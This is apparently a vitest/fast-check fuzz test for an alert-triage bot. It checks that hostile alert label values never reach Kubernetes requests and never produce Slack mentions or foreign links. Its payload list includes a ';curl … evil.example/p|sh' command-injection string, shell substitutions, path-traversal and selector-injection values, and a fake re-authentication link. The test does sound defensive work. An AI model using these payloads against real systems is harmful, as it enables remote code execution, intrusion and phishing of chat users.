// Issue 16, whole path: hostile label values (selectors, "..", shell metacharacters, mrkdwn, control characters)
// go through the webhook, the queue and the worker against the Kubernetes and Slack stand-ins. Nothing hostile may
// reach a cluster request, and the bot may post no mention and no foreign link.
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadScenarios } from '../../src/local/cluster/scenarios.js';
import { runs } from '../support/fuzz.js';
import { CHANNEL, type Harness, postWebhook, startHarness } from '../support/harness.js';

const oom = loadScenarios().find((s) => s.id === 'oom-checkout-api');
if (!oom) throw new Error('missing scenario oom-checkout-api');
const baseAlert = (oom.webhook as { alerts: Record<string, unknown>[] }).alerts[0] as {
  labels: Record<string, string>;
  annotations: Record<string, string>;
};
const POD = 'checkout-api-7d9f8c6b5-x2x7q';
const NODE = 'ip-10-20-3-41.eu-west-1.compute.internal';

/** What an attacker appends to (or puts instead of) a real name. */
const HOSTILE = [
  ',type!=x',
  ',involvedObject.name!=x',
  ';curl -s https://evil.example/p|sh;#',
  '$(id)',
  '`id`',
  '/../../nodes',
  '..',
  '%2e%2e',
  '?watch=true',
  '#fragment',
  '\nup{job="x"}',
  '\r\n',
  '\u2028',
  '\u0000',
  '\uFFFE',
  '<!channel>',
  '<@U0ADMIN>',
  '<https://evil.example/sso|Re-authenticate here>',
  '*bold* _it_ ~x~',
  ' or 1=1',
] as const;

const hostileValue = fc.oneof(
  fc.constantFrom(...HOSTILE),
  fc
    .tuple(fc.constantFrom(POD, NODE, 'payments', 'checkout-api', ''), fc.constantFrom(...HOSTILE))
    .map(([real, bad]) => real + bad),
  fc
    .tuple(fc.constantFrom('', '.', '..', '/'), fc.constantFrom(...HOSTILE), fc.constantFrom('', '..', POD))
    .map(([a, b, c]) => `${a}${b}${c}`),
);
const LABELS = ['pod', 'namespace', 'node', 'container', 'instance', 'deployment', 'persistentvolumeclaim'];
const hostileLabels = fc.dictionary(fc.constantFrom(...LABELS), hostileValue, { minKeys: 1, maxKeys: 3 });

const MENTION_OR_FOREIGN_LINK = /<!(channel|here|everyone)|<@U|<!subteam|<https?:\/\/evil\.example/i;

let h: Harness;
let sent = 0;
beforeAll(async () => {
  h = await startHarness({ cluster: oom.cluster });
});
afterAll(async () => {
  await h?.close();
});

/** Sends one alert with these labels, waits for its triage, and returns what the cluster and Slack saw. */
async function run(labels: Record<string, string>, annotations: Record<string, string> = {}) {
  const k8sFrom = h.k8s.requests.length;
  const slackFrom = h.slack.calls.length;
  sent += 1;
  const alert = {
    ...baseAlert,
    labels: { ...baseAlert.labels, ...labels },
    annotations: { ...baseAlert.annotations, ...annotations },
    // A fresh firing each time, so every case is a new incident and a new post.
    fingerprint: `f${sent.toString(16).padStart(15, '0')}`,
    startsAt: new Date(Date.UTC(2026, 10, 23, 8, 0, sent)).toISOString(),
  };
  const webhook = { ...(oom?.webhook as Record<string, unknown>), alerts: [alert] };
  const response = await postWebhook(h, webhook);
  await h.queue.idle();
  return {
    status: response.status,
    requests: h.k8s.requests.slice(k8sFrom),
    posts: h.slack.calls.slice(slackFrom),
  };
}

/** A name-like piece of a cluster request: a Kubernetes name, a literal of the API, or a port. */
const SAFE_SEGMENT = /^[A-Za-z0-9][A-Za-z0-9._:-]*$/;

describe('hostile label values through the whole path', () => {
  it('an honest alert reads its pod, and the property below watches those very requests', async () => {
    const { requests, posts } = await run({});
    expect(requests.map((r) => r.path)).toContain(`/api/v1/namespaces/payments/pods/${POD}`);
    expect(posts.length).toBeGreaterThan(0);
  });

  it('never reach a cluster request: no extra selector term, no "..", no foreign path, no control character', async () => {
    await fc.assert(
      fc.asyncProperty(hostileLabels, async (labels) => {
        const { status, requests } = await run(labels);
        expect(status).toBe(200);
        for (const request of requests) {
          // Decoded as the API server reads them: %2e%2e is ".." there.
          const segments = request.path
            .split('/')
            .filter((s) => s !== '')
            .map((s) => decodeURIComponent(s));
          for (const segment of segments) {
            expect(segment, request.path).toMatch(SAFE_SEGMENT);
            expect(segment).not.toBe('..');
          }
          for (const [key, value] of Object.entries(request.query)) {
            if (key === 'query') {
              // PromQL: label values sit quoted and escaped; no raw control character may split it.
              expect([...value].some((c) => c.charCodeAt(0) < 0x20 || c === '\u2028')).toBe(false);
              continue;
            }
            // Selectors and flags: only names, = / != / ==, commas between the service's own terms.
            expect(value, `${key}=${value}`).toMatch(/^[A-Za-z0-9._=!,:/-]*$/);
            for (const bad of Object.values(labels))
              if (/[^A-Za-z0-9.-]/.test(bad)) expect(value.includes(bad), `${key}=${value}`).toBe(false);
          }
        }
        // Every pod or node read is of the scenario's own objects: nothing outside the named object.
        for (const request of requests) {
          const pod = /\/namespaces\/([^/]+)\/pods\/([^/]+)/.exec(request.path);
          if (pod) expect([pod[1], pod[2]]).toEqual(['payments', POD]);
          const node = /\/nodes\/([^/]+)/.exec(request.path);
          if (node) expect(node[1]).toBe(NODE);
        }
      }),
      { numRuns: runs(60) },
    );
  }, 300_000);

  // Issue 16's finding 2: a summary or description holding "<@U0ADMIN>" once reached the post unescaped. Every
  // Slack text is now escaped by one function (src/slack-render/text.ts).
  it('leave no mention and no foreign link in what the bot posts', async () => {
    await fc.assert(
      fc.asyncProperty(hostileLabels, hostileValue, async (labels, annotation) => {
        const { posts } = await run(labels, {
          runbook_url: annotation,
          summary: annotation,
          description: annotation,
        });
        for (const post of posts) {
          const text = JSON.stringify({ text: post.body.text, blocks: post.body.blocks });
          expect(text).not.toMatch(MENTION_OR_FOREIGN_LINK);
        }
        expect(h.slack.messages(CHANNEL).length).toBeGreaterThan(0);
      }),
      { numRuns: runs(40) },
    );
  }, 300_000);
});
